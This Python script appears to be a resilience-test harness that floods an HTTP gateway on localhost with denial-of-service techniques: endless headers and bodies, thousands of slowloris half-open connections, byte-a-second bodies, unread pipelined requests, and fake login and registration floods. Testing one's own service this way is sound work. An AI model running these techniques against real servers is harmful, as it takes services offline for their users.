"""One process that attacks a gateway in every way a stranger can: `attacker.py PORT SECONDS`. It says what it did as JSON."""

import asyncio
import contextlib
import json
import random
import sys
import time
from collections import Counter

HALF_OPEN = 5000
PARTS = {
    "endless header": b"GET / HTTP/1.1\r\nHost: x\r\nX: ",
    "endless address": b"GET /",
    "endless headers": b"GET / HTTP/1.1\r\n",
    "endless trailers": b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
    "endless extension": b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1;",
    "endless body": b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 100000000000\r\n\r\n",
}
FILLING = {"endless headers": b"A: b\r\n" * 10_000, "endless trailers": b"A: b\r\n" * 10_000}
BEGINNINGS = (
    b"",
    b"GET / HTTP/1.1\r\nHost: x\r\n",
    b"GET / HTTP/1.1\r\nX: " + b"a" * 8000,
    b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 90,
)
done: Counter[str] = Counter()


class Attack:
    def __init__(self, port: int, until: float) -> None:
        self._port = port
        self._until = until

    @property
    def _goes_on(self) -> bool:
        return time.monotonic() < self._until

    async def _open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection("127.0.0.1", self._port)

    async def endless(self, what: str) -> None:
        filling = FILLING.get(what, b"a" * 65_536)
        while self._goes_on:
            with contextlib.suppress(OSError):
                _, writer = await self._open()
                writer.write(PARTS[what])
                while self._goes_on:
                    writer.write(filling)
                    await writer.drain()
                    done["MiB"] += len(filling) / (1 << 20)
            done[what] += 1
            with contextlib.suppress(Exception):
                writer.transport.abort()

    async def half_open(self, beginning: bytes) -> None:
        """Opens again whenever it is closed."""
        while self._goes_on:
            with contextlib.suppress(OSError):
                reader, writer = await self._open()
                writer.write(beginning)
                done["half open"] += 1
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(max(0, self._until - time.monotonic())):
                        await reader.read()
                writer.transport.abort()
            await asyncio.sleep(random.uniform(0, 1))  # Time itself: the attacker's pace, as below

    async def slow_body(self) -> None:
        head = b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 16000\r\n\r\n"
        while self._goes_on:
            with contextlib.suppress(OSError):
                _, writer = await self._open()
                writer.write(head + b" " * 15_000)
                done["slow bodies"] += 1
                for _ in range(900):
                    writer.write(b" ")
                    await writer.drain()
                    await asyncio.sleep(1)  # Time itself: a byte a second
                    if not self._goes_on:
                        break
                writer.transport.abort()
            await asyncio.sleep(0.2)

    async def flood(self, path: str) -> None:
        number = random.randrange(1 << 40)
        while self._goes_on:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await self._open()
                while self._goes_on:
                    number += 1
                    body = json.dumps({"email": f"stranger{number}@example.org", "password": "wrong horse battery"}).encode()
                    head = (
                        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
                    )
                    writer.write(head.encode() + body)
                    answer = await reader.readuntil(b"\r\n\r\n")
                    length = next(int(line[15:]) for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length:"))
                    await reader.readexactly(length)
                    done[f"{path} {int(answer[9:12])}"] += 1
                writer.transport.abort()

    async def ahead(self) -> None:
        """Thousands of requests in one write, and nobody who reads the answers."""
        while self._goes_on:
            with contextlib.suppress(OSError):
                _, writer = await self._open()
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                writer.write(b"GET /openapi.json HTTP/1.1\r\n\r\n" * 5000)
                done["unread"] += 1
                await asyncio.sleep(2)
                writer.transport.abort()

    async def run(self) -> None:
        async with asyncio.TaskGroup() as group:
            for what in PARTS:
                for _ in range(2):
                    group.create_task(self.endless(what))
            for number in range(HALF_OPEN):
                group.create_task(self.half_open(BEGINNINGS[number % len(BEGINNINGS)]))
            for _ in range(300):
                group.create_task(self.slow_body())
            for _ in range(20):
                group.create_task(self.ahead())
            for _ in range(30):
                group.create_task(self.flood("/api/auth/login"))
                group.create_task(self.flood("/api/auth/register"))


if __name__ == "__main__":
    asyncio.run(Attack(int(sys.argv[1]), time.monotonic() + float(sys.argv[2])).run())
    print(json.dumps(done))
